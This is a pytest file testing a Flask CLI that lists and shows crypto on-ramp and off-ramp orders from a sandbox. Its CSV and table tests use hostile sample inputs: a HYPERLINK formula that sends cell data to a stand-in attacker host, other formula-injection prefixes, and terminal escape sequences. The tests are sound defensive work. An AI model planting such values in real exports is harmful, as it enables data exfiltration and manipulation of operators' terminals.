"""``flask checkout orders list | show``, against the embedded sandbox."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from checkout.cli.orders import Duration
from checkout.errors import UpstreamUnavailable
from checkout.webhooks.inspect import ROW_KEYS

from ..conftest import make_app
from ..support.sandbox_clock import MANUAL
from .conftest import Receiver
from .helpers import order_payload, signed_webhook

CELO_ADDRESS = "0x52908400098527886E0F7030069857D2E4169EE7"
KE_PHONE = "254110611756"
EMAIL = "ada@example.com"


@pytest.fixture
def app(webhook_config):
    webhook_config["CHECKOUT_SANDBOX"] = {**MANUAL, "SANDBOX_WEBHOOK_EVENTS": []}
    return make_app(dict(webhook_config))


def _onramp(app, ref: str) -> str:
    upstream = app.extensions["checkout"].upstream
    quote = upstream.onramp_best_offer(network="CELO", asset="USDC", currency="local",
                                       amount=5000, country_iso_code="NG",
                                       payment_channel="bank")
    return upstream.onramp_create_order(
        quote_id=quote.quote_id, network="CELO", asset="USDC", amount=5000, currency="local",
        email=EMAIL, user_ip="203.0.113.7", address=CELO_ADDRESS, order_params=ref).id


def _offramp(app, ref: str) -> str:
    upstream = app.extensions["checkout"].upstream
    offer = upstream.offramp_typed_best_offer(amount=10, currency="usd", country="KE",
                                              type="mobile_money", network="CELO", asset="USDT")
    return upstream.offramp_create_order(
        offer_id=offer.offer_id, payment_type="CRYPTO_WALLET", network="CELO", asset="USDT",
        address=CELO_ADDRESS, currency="usd", amount=10, ip="203.0.113.9", order_params=ref,
        required_fields={"phoneNumber": KE_PHONE}).id


def _run(app, *args):
    return app.test_cli_runner().invoke(args=["checkout", "orders", *args])


def _json(app, *args) -> list[dict]:
    result = _run(app, "list", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


@pytest.fixture
def orders(app):
    made = {"onramp": [_onramp(app, f"on-{n}") for n in range(3)],
            "offramp": [_offramp(app, f"off-{n}") for n in range(2)]}
    return made


def test_list_walks_every_family_page_by_page(app, orders, monkeypatch):
    upstream = app.extensions["checkout"].upstream
    pages: list[tuple[str, str | None]] = []
    for name in ("onramp_orders", "offramp_orders", "legacy_orders"):
        real = getattr(upstream, name)

        def spy(limit, cursor=None, _real=real, _name=name, **filters):
            pages.append((_name, cursor))
            return _real(limit, cursor, **filters)
        monkeypatch.setattr(upstream, name, spy)
    rows = _json(app, "--page-size", "2")
    by_flow = {flow: sorted(r["id"] for r in rows if r["flow"] == flow)
               for flow in ("onramp", "offramp", "legacy")}
    assert by_flow["onramp"] == sorted(orders["onramp"])
    assert by_flow["offramp"] == sorted(orders["offramp"])
    assert by_flow["legacy"] == []      # the sandbox's legacy list repeats the on-ramp orders
    assert len(rows) == len({r["id"] for r in rows}) == 5
    onramp_pages = [c for n, c in pages if n == "onramp_orders"]
    assert len(onramp_pages) >= 2 and onramp_pages[0] is None and all(onramp_pages[1:])
    assert any(n == "legacy_orders" for n, _c in pages)
    for row in rows:
        assert list(row) == list(ROW_KEYS)
    off = next(r for r in rows if r["flow"] == "offramp")
    assert off["variant"] == "type" and off["orderParams"].startswith("off-")
    on = next(r for r in rows if r["flow"] == "onramp")
    assert on["amount"] and on["currency"] == "NGN" and on["asset"] == "USDC"
    assert on["createdAt"] and on["status"]


def test_legacy_family_and_limit(app, orders):
    rows = _json(app, "--flow", "legacy", "--page-size", "1")
    assert sorted(r["id"] for r in rows) == sorted(orders["onramp"])
    assert {r["flow"] for r in rows} == {"legacy"} and all(r["status"] for r in rows)
    assert len(_json(app, "--limit", "4", "--page-size", "1")) == 4


def test_filters_status_order_params_and_age(app, orders):
    first = _json(app, "--flow", "onramp")[0]
    same = _json(app, "--flow", "onramp", "--status", first["status"])
    assert first["id"] in {r["id"] for r in same}
    assert all(r["status"] == first["status"] for r in same)
    assert _json(app, "--status", "no_such_status") == []
    off_status = _json(app, "--flow", "offramp")[0]["status"]
    assert len(_json(app, "--flow", "offramp", "--status", off_status)) == 2   # upstream filter
    [row] = _json(app, "--order-params", "off-1")
    assert row["id"] == orders["offramp"][1]
    [row] = _json(app, "--order-params", "on-2")
    assert row["id"] == orders["onramp"][2]
    assert len(_json(app, "--newer-than", "1h")) == 5
    assert _json(app, "--older-than", "1h") == []
    bad = _run(app, "list", "--older-than", "soon")
    assert bad.exit_code == 2 and "not a duration" in bad.output


def test_duration_units():
    assert Duration().convert("2h", None, None) == timedelta(hours=2)
    assert Duration().convert("3d", None, None) == timedelta(days=3)
    assert Duration().convert("90s", None, None) == timedelta(seconds=90)


def test_csv_and_table_shapes_without_personal_data(app, orders):
    result = _run(app, "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert result.output.splitlines()[0] == ",".join(ROW_KEYS)
    assert len(rows) == 5 and {r["flow"] for r in rows} == {"onramp", "offramp"}
    table = _run(app, "list")
    assert table.exit_code == 0 and table.output.splitlines()[0].startswith("ID")
    assert len(table.output.strip().splitlines()) == 6
    for out in (result.output, table.output, json.dumps(_json(app))):
        assert EMAIL not in out and KE_PHONE not in out


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Refund")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def test_csv_cells_that_a_spreadsheet_would_compute_are_written_as_text(app):
    """OWASP's CSV injection advice: a cell that starts with =, +, -, @, a tab or a carriage
    return (or a full-width sign) gets a leading quote; the others are as the upstream says."""
    made = {_onramp(app, formula): formula for formula in FORMULAS}
    made[_onramp(app, "shop-ref=7+1")] = "shop-ref=7+1"
    result = _run(app, "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.output))}
    for order_id, sent in made.items():
        written = rows[order_id]["orderParams"]
        assert written == (sent if sent.startswith("shop") else "'" + sent), sent
    for row in rows.values():
        assert not row["id"].startswith("'") and not row["createdAt"].startswith("'")


def test_the_table_shows_terminal_control_characters_escaped(app):
    """An ESC, a BEL or an OSC from the upstream would act on the operator's terminal (retitle
    it, clear it, make a link): the table shows them as escapes instead."""
    hostile = {_onramp(app, "\x1b]0;owned\x07"): "\\x1b]0;owned\\x07",
               _onramp(app, "\x1b[2Jref"): "\\x1b[2Jref",
               _onramp(app, "a\x9bb\u202ec\rd"): "a\\x9bb\\u202ec\\rd"}
    table = _run(app, "list")
    assert table.exit_code == 0, table.output
    assert not any(ch in table.output for ch in "\x1b\x07\x9b\u202e\r")
    lines = table.output.splitlines()
    assert len(lines) == 1 + len(hostile)
    for order_id, shown in hostile.items():
        assert shown in next(line for line in lines if line.startswith(order_id))


def test_stored_status_shown_when_it_differs(app, orders):
    order_id = orders["offramp"][0]
    receiver = Receiver(app)
    receiver.post(signed_webhook(order_payload(order_id, "payout_successful",
                                               order_type="off_ramp")))
    receiver.process()
    [row] = _json(app, "--order-params", "off-0")
    assert row["storedStatus"] == "payout_successful" and row["status"] != "payout_successful"
    assert all(r["storedStatus"] is None for r in _json(app) if r["id"] != order_id)


def _sandbox_moves(app, order_id: str, status: str) -> None:
    """The sandbox's off-ramp order moves on (no webhook: this app's sandbox sends none)."""
    from checkout.sandbox.state import current

    with app.extensions["checkout"].sandbox.app_context():
        store = current().orders
        with store.lock:
            store.set_status(store.get(order_id, "offramp"), status)


def test_status_takes_the_webhooks_words_and_a_stored_status_saying_the_same_is_not_shown(
        app, orders):
    paid = orders["offramp"][0]
    _sandbox_moves(app, paid, "offramp_success")
    receiver = Receiver(app)
    receiver.post(signed_webhook(order_payload(paid, "payout_successful", order_type="off_ramp")))
    receiver.process()
    for args in (("--status", "payout_successful"), ("--status", "offramp_success"),
                 ("--flow", "offramp", "--status", "payout_successful"),
                 ("--flow", "offramp", "--status", "offramp_success")):
        [row] = _json(app, *args)
        assert row["id"] == paid and row["status"] == "offramp_success", args
        # Stored as payout_successful, which is what offramp_success means: nothing to show.
        assert row["storedStatus"] is None, args
    # A webhook word that stands for several upstream words, and the on-ramp's words too.
    assert {r["id"] for r in _json(app, "--flow", "offramp", "--status", "deposit_awaiting")} == \
        {orders["offramp"][1]}
    assert {r["id"] for r in _json(app, "--status", "deposit_awaiting", "--flow", "onramp")} == \
        set(orders["onramp"])
    table = _run(app, "list", "--status", "payout_successful")
    assert table.exit_code == 0, table.output
    [line] = [line for line in table.output.splitlines() if line.startswith(paid)]
    assert line.count("payout_successful") == 0 and "offramp_success" in line


def test_show_prints_stored_status_upstream_order_deliveries_and_signals(app, orders):
    order_id = orders["onramp"][0]
    receiver = Receiver(app)
    delivery = signed_webhook(order_payload(order_id, "deposit_awaiting"))
    receiver.post(delivery)
    receiver.post(delivery)
    receiver.process()
    result = _run(app, "show", order_id)
    assert result.exit_code == 0, result.output
    out = result.output
    assert "stored      deposit_awaiting" in out
    assert "upstream    onramp" in out
    assert "processed (applied)" in out and "1 duplicate(s)" in out
    assert "signal=order_status_changed, status=deposit_awaiting" in out
    assert "signal=webhook_received" in out
    assert EMAIL in out                                   # the full order, for the operator
    assert app.config["CHECKOUT_WEBHOOK_SECRET"] not in out
    data = json.loads(_run(app, "show", order_id, "--format", "json").output)
    assert data["id"] == order_id and data["flow"] == "onramp"
    assert data["stored"]["status"] == "deposit_awaiting"
    assert data["upstream"]["_id"] == order_id
    assert [d["duplicates"] for d in data["deliveries"]] == [1]
    assert {s["signal"] for s in data["signals"]} == {"order_status_changed", "webhook_received"}


def test_show_finds_offramp_orders_without_a_stored_row(app, orders):
    data = json.loads(_run(app, "show", orders["offramp"][1], "--format", "json").output)
    assert data["flow"] == "offramp" and data["stored"] is None and data["deliveries"] == []
    assert data["upstream"]["orderParams"] == "off-1"


def test_unknown_order_exits_1(app, orders):
    result = _run(app, "show", "no_such_order")
    assert result.exit_code == 1
    assert "no order no_such_order" in result.output and "Traceback" not in result.output


def test_upstream_down_is_one_clean_line(app, monkeypatch):
    upstream = app.extensions["checkout"].upstream

    def down(*args, **kwargs):
        raise UpstreamUnavailable("connection refused", method="GET", path="/api/onramp/orders")
    for name in ("onramp_orders", "onramp_order", "offramp_order", "legacy_order"):
        monkeypatch.setattr(upstream, name, down)
    for args in (["list"], ["show", "ord_x"]):
        result = _run(app, *args)
        assert result.exit_code == 1, result.output
        assert result.output.startswith("Error: the upstream failed")
        assert "connection refused" in result.output and len(result.output.splitlines()) == 1
        assert result.exception is None or isinstance(result.exception, SystemExit)


def test_legacy_status_filter_matches_either_half(app, orders):
    rows = _json(app, "--flow", "legacy")
    buy = rows[0]["status"].split("/")[0]
    kept = _json(app, "--flow", "legacy", "--status", buy)
    assert rows[0]["id"] in {r["id"] for r in kept}
    assert all(r["status"].split("/")[0] == buy for r in kept)
